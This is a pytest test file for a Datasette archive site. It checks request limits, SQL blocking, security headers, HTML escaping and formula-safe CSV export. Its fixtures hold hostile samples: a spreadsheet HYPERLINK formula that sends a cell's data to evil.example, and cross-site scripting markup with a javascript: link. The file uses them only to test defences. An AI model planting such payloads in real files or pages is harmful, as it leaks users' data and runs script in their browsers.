"""What a stranger may not do on the site, and what he gets instead; CSV that a spreadsheet can open without harm."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import subprocess
import sys
from collections.abc import AsyncIterator, Iterator
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from datasette.app import Datasette
from fazhi_zoo.records import capture, library, report

from archive import store
from archive.model import Attachment
from archive.site import HEADERS, SAFE_SETTINGS, guard, serve

ROOT = Path(__file__).resolve().parents[1]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
MARKUP = '"><script>alert(1)</script><img src=x onerror=alert(1)>'

pytestmark = pytest.mark.asyncio(loop_scope="module")


def datasette(archive: Path, plugin: dict[str, Any] | None = None, **more: Any) -> Datasette:
    told = json.loads((ROOT / "datasette_metadata.json").read_text(encoding="utf-8"))
    told["plugins"] = {"fazhi": plugin or {}}
    config = {"config": told} if "config" in Datasette.__init__.__code__.co_varnames else {}
    return Datasette([str(archive)], metadata=told, **config, **more)


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def archive(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("guard") / "archive.db"
    db = store.open_archive(path)
    for taken, document in library(8):
        store.save(db, taken, document)
    evil = report(
        f"{MARKUP}\n" + "正文。" * 80, title=FORMULA, issuer=f"@{MARKUP}", doc_no="-2+3", index_no="-12", year=2031,
        attachments=(Attachment(MARKUP, "javascript:alert(1)"),),
    )  # fmt: skip
    store.save(db, capture(90, url="http://www.example.gov.cn/a.html?x=<script>"), evil)
    db.close()
    return path


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def site(archive: Path) -> AsyncIterator[Datasette]:
    served = datasette(archive)
    await served.invoke_startup()
    yield served


@pytest.mark.parametrize(
    ("address", "status", "said"),
    [
        (
            "/archive/reports.json?_facet=year&_facet=level&_facet=status&_facet=issuer&_facet=url",
            400,
            "at most 4 facets",
        ),
        ("/archive/reports.json?_facet_array=a&_facet_date=b&_facet=c&_facet=d&_facet=e", 400, "at most 4 facets"),
        ("/archive/reports.json?_facet_size=max", 400, "_facet_size must be a number up to 100"),
        ("/archive/texts.json?_size=51", 400, "_size of texts must be a number up to 50"),
        ("/archive/te~78ts.json?_size=max", 400, "_size of texts must be a number up to 50"),
        ("/archive/TEXTS.csv?_size=500", 400, "_size of TEXTS must be a number up to 50"),
        ("/archive/texts.json?_facet=text", 400, "no facets of texts"),
        ("/archive/readings.json?_size=500", 400, "_size of readings must be a number up to 50"),
        ("/archive/reports.json?" + "a=1&" * 101, 400, "at most 100 parameters"),
        ("/search?" + "q=1&" * 101, 400, "at most 100 parameters"),
        ("/archive/reports.json?_size=501", 400, "_size must be"),
        ("/archive/reports.json?_where=1", 403, "_where= is not allowed"),
        ("/archive/reports.csv?_stream=1", 400, "CSV streaming"),
        ("/archive.db", 403, "orbidden"),
    ],
)
async def test_limits(site: Datasette, address: str, status: int, said: str) -> None:
    answer = await site.client.get(address)
    assert (answer.status_code, said in answer.text) == (status, True), answer.text[:300]
    assert answer.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize(
    "address",
    ["/archive/reports.json?_facet=year&_facet=level&_facet=status&_facet=issuer&_facet_size=100&_size=500",
     "/archive/texts.json?_size=50", "/archive/texts.json"],
)  # fmt: skip
async def test_within_the_limits(site: Datasette, address: str) -> None:
    assert (await site.client.get(address)).status_code == 200


@pytest.mark.parametrize(
    "address", ["/archive.json?sql=", "/archive/-/query.json?sql=", "/archive/-/query?sql=", "/archive?sql="]
)
async def test_no_sql_of_a_stranger(site: Datasette, address: str) -> None:
    answer = await site.client.get(address + "select+12345*3", follow_redirects=True)
    assert answer.status_code in (400, 403, 404)
    assert "37035" not in answer.text


@pytest.mark.parametrize(
    "name", ["databases", "databases.json", "threads", "threads.json", "tasks", "config", "config.json", "permissions",
             "allow-debug", "patterns", "messages", "rules", "check", "actions", "api", "debug/autocomplete"],
)  # fmt: skip
async def test_the_inside_of_the_server_is_not_shown(site: Datasette, archive: Path, name: str) -> None:
    answer = await site.client.get(f"/-/{name}")
    assert answer.status_code == 404
    assert str(archive.parent) not in answer.text


async def test_no_path_of_the_machine_on_any_page(site: Datasette, archive: Path) -> None:
    for address in ("/", "/archive", "/archive.json", "/archive/reports", "/-/versions.json", "/-/settings.json",
                    "/-/plugins.json", "/-/metadata.json", "/-/actor.json", "/no.json"):  # fmt: skip
        assert str(archive.parent) not in (await site.client.get(address)).text, address


async def test_our_pages_allow_no_script_in_the_page(site: Datasette) -> None:
    for address in ("/", "/search?q=x", "/en/", "/en/about", "/coverage", "/place/990102", "/report/x", "/compare"):
        assert (await site.client.get(address)).headers.get_list("content-security-policy") == [guard.OWN_POLICY], (
            address
        )
    stock = (await site.client.get("/archive/reports")).headers["content-security-policy"]
    assert stock == HEADERS["content-security-policy"]


async def test_hostile_words_are_never_markup(site: Datasette) -> None:
    name = (await site.client.get("/archive/reports.json?_shape=array&year=2031")).json()[0]["id"]
    script = "%22%3E%3Cscript%3Ealert(1)%3C/script%3E"
    for address in (
        f"/report/{name}", f"/en/report/{name}?q={script}", "/search?q=2031&year=2031", "/search?q=alert", "/",
        "/coverage", "/place/990102", f"/compare?a={name}&b={name}", "/archive/reports?year=2031",
        f"/archive/reports/{name}", "/archive/attachments", "/archive/texts", "/archive/sources",
        f"/archive/reports?title__contains={script}", f"/search?q={script}", "/archive/%3Cscript%3E", "/%3Cscript%3E",
        f"/archive/reports?_sort={script}", f"/archive/reports?_facet={script}",
    ):  # fmt: skip
        page = (await site.client.get(address, follow_redirects=True)).text
        assert "<script>alert" not in page, address
        assert "<img src=x" not in page, address
        assert 'href="javascript' not in page, address


def rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8"), newline="")))


async def test_csv_for_spreadsheets(site: Datasette) -> None:
    columns = "&".join(f"_col={name}" for name in ("title", "issuer", "doc_no", "index_no", "year"))
    address = f"/archive/reports.csv?{columns}&_sort_desc=year&_size=2"
    for download in ("", "&_dl=1"):
        answer = await site.client.get(address + download)
        assert answer.content.startswith(b"\xef\xbb\xbf")
        assert answer.headers.get("content-length") in (None, str(len(answer.content)))
        first = rows(answer.content.removeprefix(b"\xef\xbb\xbf"))[0]
        assert {name: first[name] for name in ("title", "issuer", "doc_no", "index_no", "year")} == {
            "title": "'" + FORMULA, "issuer": f"'@{MARKUP}", "doc_no": "'-2+3", "index_no": "-12", "year": "2031"
        }  # fmt: skip
    exact = (await site.client.get(address + "&_raw=1")).content
    assert rows(exact)[0]["title"] == FORMULA
    assert not exact.startswith(b"\xef\xbb\xbf")
    refused = await site.client.get("/archive/reports.csv?_size=9999")
    assert not refused.content.startswith(b"\xef\xbb\xbf")


async def test_csv_in_pieces_is_put_together_by_rows() -> None:
    sent: list[dict[str, Any]] = []

    async def send(event: dict[str, Any]) -> None:
        sent.append(event)

    changing = guard.for_spreadsheets(send)
    await changing(
        {
            "type": "http.response.start",
            "status": 200,
            "headers": [(b"content-type", b"text/csv"), (b"content-length", b"9")],
        }
    )
    whole = 'a,b\r\n"x\ny",=1\r\n复,"議\r\n",\r\n'.encode()
    for at in range(len(whole)):
        await changing({"type": "http.response.body", "body": whole[at : at + 1], "more_body": True})
    await changing({"type": "http.response.body", "body": b"", "more_body": False})
    assert sent[0]["headers"] == [(b"content-type", b"text/csv")]
    body = b"".join(event["body"] for event in sent[1:])
    assert list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""))) == [
        ["a", "b"], ["x\ny", "'=1"], ["复", "議\r\n", ""],
    ]  # fmt: skip
    assert (body.count(b"\xef\xbb\xbf"), sent[-1]["more_body"]) == (1, False)


async def test_wrong_parameters_are_the_visitors_fault_and_a_busy_file_is_nobodys(
    site: Datasette, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from datasette.database import Database

    for error, status, said in (
        (sqlite3.OperationalError("database is locked"), 503, "暂时读不出"),
        (sqlite3.OperationalError("no such column: x"), 400, "看不懂这个网址"),
        (KeyError("x"), 400, "看不懂这个网址"),
    ):

        def broken(*_: object, error: Exception = error, **__: object) -> Iterator[None]:
            raise error

        with monkeypatch.context() as patch:
            patch.setattr(Database, "execute", broken)
            for address in ("/archive/sources", "/archive/sources.json"):
                answer = await site.client.get(address)
                assert (answer.status_code, answer.headers.get("retry-after")) == (
                    status,
                    "30" if status == 503 else None,
                )
                shown = answer.json()["error"] if address.endswith("json") else answer.text
                assert said in shown
        logged = capsys.readouterr().err
        assert "fazhi: 'GET /archive/sources?': " in logged


async def test_an_operator_may_ask_for_defaults(archive: Path) -> None:
    served = datasette(archive, {"asked": ["allow_csv_stream"]})
    await served.invoke_startup()
    assert served.setting("allow_csv_stream") is True
    assert {name: served.setting(name) for name in SAFE_SETTINGS if name != "allow_csv_stream"} == {
        name: value for name, value in SAFE_SETTINGS.items() if name != "allow_csv_stream"
    }
    streamed = await served.client.get("/archive/reports.csv?_stream=1")
    assert streamed.content.startswith(b"\xef\xbb\xbf")
    assert len(rows(streamed.content)) == 9


async def test_the_file_is_given_out_only_where_the_operator_asks(archive: Path, tmp_path: Path) -> None:
    copy = tmp_path / "archive.db"
    with closing(sqlite3.connect(archive)) as db:
        db.execute("vacuum into ?", (str(copy),))
    for asked, status in (([], 403), (["allow_download"], 200)):
        told = {"plugins": {"fazhi": {"asked": asked}}}
        config = {"config": told} if "config" in Datasette.__init__.__code__.co_varnames else {}
        served = Datasette([], immutables=[str(copy)], metadata=told, **config)
        await served.invoke_startup()
        answer = await served.client.get("/archive.db")
        assert answer.status_code == status
        assert (answer.content == copy.read_bytes()) is (status == 200)


async def test_settings_and_base_url_reach_datasette(archive: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from archive.datadir import DataDir
    from archive.errors import UsageError

    given: list[Any] = []

    def main(arguments: list[str], *_: object, **__: object) -> None:
        file = Path(arguments[arguments.index("--metadata") + 1])
        given.append((arguments[arguments.index("--setting") :][:3], json.loads(file.read_text("utf-8"))["plugins"]))

    monkeypatch.setattr(serve.cli, "main", main)
    serve.serve(
        DataDir(archive.parent), "127.0.0.1", 0, base_url="https://a.example/x", settings=[("allow_facet", "off")]
    )
    assert given == [
        (["--setting", "allow_facet", "off"], {"fazhi": {"asked": ["allow_facet"], "base_url": "https://a.example/x/"}})
    ]
    with pytest.raises(UsageError, match="is no base URL"):
        serve.serve(DataDir(archive.parent), "127.0.0.1", 0, base_url="a.example")


async def test_an_unknown_setting_is_refused_in_words(archive: Path) -> None:
    command = [sys.executable, "-m", "crawler", "serve", "--data", str(archive.parent), "--port", "0"]
    done = subprocess.run([*command, "--setting", "nosuch", "1"], capture_output=True, text=True, check=False)
    said = "fazhi: Datasette has no setting 'nosuch' - `datasette --help-settings` lists them\n"
    assert (done.returncode, done.stderr) == (2, said)
